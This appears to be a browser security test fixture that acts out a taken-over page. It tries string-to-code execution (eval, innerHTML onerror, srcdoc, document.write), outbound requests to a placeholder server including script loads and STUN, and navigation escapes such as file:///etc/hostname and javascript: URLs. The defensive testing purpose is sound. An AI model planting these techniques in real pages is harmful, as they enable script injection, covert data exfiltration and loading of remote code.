// SPDX-License-Identifier: Apache-2.0
/**
 * What a page tries that was taken over: run code from text, reach a server, leave. One attack at a time, by its name in
 * an event; it answers in `globalThis.results`: what it got, or the name of what was thrown.
 */
const server = '__SERVER__'
const udp = '__UDP__'
const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties))
const mark = (name) => `document.documentElement.classList.add('${name}')`
const settle = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/** Code from text: marks the document when it runs. */
const code = {
  eval: () => (0, eval)(mark('eval')),
  function: () => new Function(mark('function'))(),
  timeout: () => setTimeout(mark('timeout'), 0),
  importData: () => import(`data:text/javascript,${mark('importData')}`),
  scriptText: () => add('script', { text: mark('scriptText') }),
  scriptSource: () => add('script', { src: `data:text/javascript,${mark('scriptSource')}` }),
  innerHtml: () => void (document.body.innerHTML = `<img src="x" onerror="${mark('innerHtml')}">`),
  handler: () => document.body.setAttribute('onclick', mark('handler')) ?? document.body.click(),
  frameDocument: () => add('iframe', { srcdoc: `<script>parent.${mark('frameDocument')}</script>` }),
  blobWorker: () => new Worker(URL.createObjectURL(new Blob([`fetch('${server}/blobWorker')`]))) && settle(50),
  policy: () => trustedTypes.createPolicy('default', { createHTML: (text) => text }) && innerHtmlByPolicy(),
  write: () => document.write(`<script>${mark('write')}</script>`),
}
const innerHtmlByPolicy = () => void (document.body.innerHTML = `<img src="x" onerror="${mark('policy')}">`)

/** Requests: each asks the server for its own name. */
const requests = {
  fetch: () => fetch(`${server}/fetch`, { mode: 'no-cors' }),
  xhr: () =>
    new Promise((resolve, reject) => {
      const request = Object.assign(new XMLHttpRequest(), { onload: resolve, onerror: () => reject(new Error('xhr')) })
      request.open('GET', `${server}/xhr`)
      request.send()
    }),
  beacon: () => navigator.sendBeacon(`${server}/beacon`),
  socket: () => new WebSocket(`${server.replace('http', 'ws')}/socket`) && settle(50),
  events: () => new EventSource(`${server}/events`) && settle(50),
  image: () => add('img', { src: `${server}/image` }),
  script: () => add('script', { src: `${server}/script` }),
  moduleImport: () => import(`${server}/moduleImport`),
  style: () => add('link', { rel: 'stylesheet', href: `${server}/style` }),
  prefetch: () => add('link', { rel: 'prefetch', href: `${server}/prefetch` }),
  media: () => add('video', { src: `${server}/media` }),
  object: () => add('object', { data: `${server}/object` }),
  frame: () => add('iframe', { src: `${server}/frame` }),
  worker: () => new Worker(`${server}/worker`) && settle(50),
  font: () => new FontFace('x', `url(${server}/font)`).load(),
  ping: () => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: `${server}/ping` })
    document.body.append(link)
    link.click()
  },
  stun: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await settle(500)
  },
}

/** Ways to another page. */
const exits = {
  location: () => void (location.href = `${server}/location`),
  replace: () => location.replace(`${server}/replace`),
  refresh: () =>
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${server}/refresh` }),
    ),
  link: () => {
    const link = Object.assign(document.createElement('a'), { href: `${server}/link` })
    document.body.append(link)
    link.click()
  },
  blank: () => {
    const link = Object.assign(document.createElement('a'), {
      href: `${server}/blank`,
      target: '_blank',
      rel: 'opener',
    })
    document.body.append(link)
    link.click()
  },
  open: () => window.open(`${server}/open`),
  form: () => {
    const form = Object.assign(document.createElement('form'), { action: `${server}/form`, method: 'post' })
    document.body.append(form)
    form.submit()
  },
  ownOther: () => void (location.href = new URL('attacks.js', location.href).href),
  file: () => void (location.href = 'file:///etc/hostname'),
  data: () => void (location.href = 'data:text/html,elsewhere'),
  script: () => void (location.href = `javascript:${mark('scriptUrl')}`),
}

const kinds = { code, requests, exits }
globalThis.results = {}
document.addEventListener('attack', ({ detail: [kind, name] }) => {
  // Later, so that the page itself attacks and not whoever sent the event.
  setTimeout(async () => {
    try {
      await kinds[kind][name]()
      results[name] = 'done'
    } catch (error) {
      results[name] = error.name
    }
  }, 0)
})
globalThis.attacks = Object.fromEntries(Object.entries(kinds).map(([kind, list]) => [kind, Object.keys(list)]))
